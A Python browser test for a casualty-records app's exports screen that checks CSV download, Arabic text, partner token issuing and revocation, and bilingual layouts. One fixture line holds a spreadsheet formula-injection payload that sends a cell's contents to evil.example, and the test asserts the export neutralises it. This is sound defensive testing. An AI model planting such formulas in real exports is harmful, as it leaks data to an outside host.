"""The exports screen in a real browser: a coordinator downloads a CSV export from the
button (the server's stream, saved by the browser), issues a partner token that works,
revokes it (the next request is refused), and the screen reads well in Arabic and English
on a phone and a laptop."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import requests
from browser.harness import ARTIFACTS, Hub, login, wait_until

from app.exports.csv_safe import unescape_cell

NAME = "محمد خالد الأتاسي"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
SCREENSHOTS = ARTIFACTS / "screenshots"


def _record(hub: Hub, user: dict[str, Any]) -> str:
    session, csrf = login(hub.url, user["username"], user["password"])
    r = session.post(
        f"{hub.url}/api/v1/records",
        json={
            "kind": "casualty",
            "team_id": user["team_id"],
            "outcome": "killed",
            "sex": "male",
            "civilian_status": "civilian",
            "cause": "shelling_artillery",
            "occurred_date": "2026-01-15",
            "full_name": NAME,
            "location_detail": FORMULA,
            "verification_status": "corroborated",
        },
        headers={"X-CSRF-Token": csrf},
        timeout=10,
    )
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


def _pull(hub: Hub, token: str) -> requests.Response:
    return requests.get(
        f"{hub.url}/api/v1/partner/export",
        params={"format": "csv", "kind": "casualty"},
        headers={"Authorization": f"Bearer {token}"},
        timeout=30,
    )


def _shot(page: Any, name: str, width: int, height: int) -> None:
    page.set_viewport_size({"width": width, "height": height})
    page.wait_for_timeout(200)  # let the layout settle at the new width
    # Readable at this width: nothing wider than the screen (no sideways scrolling).
    overflow = page.evaluate("() => document.documentElement.scrollWidth - innerWidth")
    assert overflow <= 0, f"{name}: {overflow}px wider than the screen"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / f"{name}-{width}x{height}.png"), full_page=True)


def test_download_issue_and_revoke_from_the_exports_screen(devices: Any, live: Hub) -> None:
    """The button downloads the internal CSV (BOM, Arabic intact, formula neutralised); a
    token issued on the screen pulls a partner export until it is revoked there."""
    team = live.team()
    coordinator = live.user(team, "coordinator")
    record_id = _record(live, coordinator)
    phone = devices(coordinator)
    phone.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live.url)
    phone.setup()
    page = phone.page
    page.wait_for_selector("#nav a[data-screen=exports]")
    page.click("#nav a[data-screen=exports]")
    page.wait_for_selector("#export-form")

    # Internal profile, CSV for Excel, casualties: the defaults a coordinator sees first.
    assert page.input_value("#export-profile") == "internal"
    assert page.input_value("#export-format") == "csv_bom"
    page.select_option("#export-kind", "casualty")
    # A refused export shows why on the screen and saves nothing (before, the browser
    # saved the server's JSON refusal as the "export" file).
    saved: list[Any] = []
    page.on("download", lambda d: saved.append(d))
    page.fill("#export-place", "nowhere-at-all")
    page.click("#export-download")
    page.wait_for_function(
        "() => document.querySelector('#export-error').textContent.includes('Unknown place')"
    )
    page.wait_for_timeout(500)
    assert saved == []
    page.fill("#export-place", "")
    with page.expect_download() as info:
        page.click("#export-download")
    download = info.value
    assert download.failure() is None
    body = Path(download.path()).read_bytes()
    assert download.suggested_filename.startswith("tawthiq-internal-casualty-")
    assert body.startswith(b"\xef\xbb\xbf"), body[:20]
    rows = list(csv.DictReader(io.StringIO(body[3:].decode("utf-8"))))
    mine = [r for r in rows if r["id"] == record_id]
    assert len(mine) == 1, rows
    assert mine[0]["full_name"] == NAME  # Arabic round-trips exactly
    assert mine[0]["location_detail"] == "'" + FORMULA  # neutralised for spreadsheets
    assert unescape_cell(mine[0]["location_detail"]) == FORMULA
    # The export is in the team's log on the screen.
    page.click("#export-log-refresh")
    entry = page.wait_for_selector("#export-log li.export-entry[data-status=completed]")
    assert "csv_bom" in entry.inner_text()

    # A partner token: recipient, profile, one kind; shown once with a copy button.
    page.fill("#token-recipient", "UNHCR protection desk")
    page.select_option("#token-profile", "partner")
    page.check("#token-kinds input[value=casualty]")
    page.click("#token-issue")
    token = page.wait_for_selector("#token-value").input_value()
    assert token.startswith("tpt_")
    page.click("#token-copy")
    wait_until(page, "(t) => navigator.clipboard.readText().then((x) => x === t)", token)
    row = page.wait_for_selector("#token-list li[data-state=active]")
    assert "UNHCR protection desk" in row.inner_text()
    pulled = _pull(live, token)
    assert pulled.status_code == 200, pulled.text
    assert NAME not in pulled.text and "HYPERLINK" not in pulled.text  # partner profile
    assert len(list(csv.DictReader(io.StringIO(pulled.text)))) == 1

    # Screenshots with a shown token, the token list and the log: English, then Arabic.
    for width, height in ((360, 740), (1280, 800)):
        _shot(page, "exports-en", width, height)
    page.click("#lang")
    page.wait_for_function("() => document.documentElement.dir === 'rtl'")
    page.wait_for_selector("#export-form")
    assert "تنزيل" in page.inner_text("#export-download")
    for width, height in ((360, 740), (1280, 800)):
        _shot(page, "exports-ar", width, height)
    page.click("#lang")
    page.wait_for_function("() => document.documentElement.dir === 'ltr'")

    # Revoke on the screen: the very next request with the token is refused.
    page.once("dialog", lambda dialog: dialog.accept())
    page.click("#token-list li[data-state=active] button.revoke")
    page.wait_for_selector("#token-list li[data-state=revoked]")
    refused = _pull(live, token)
    assert refused.status_code == 401, refused.text
    assert refused.json()["error"]["code"] == "partner_token_revoked"
    phone.close()
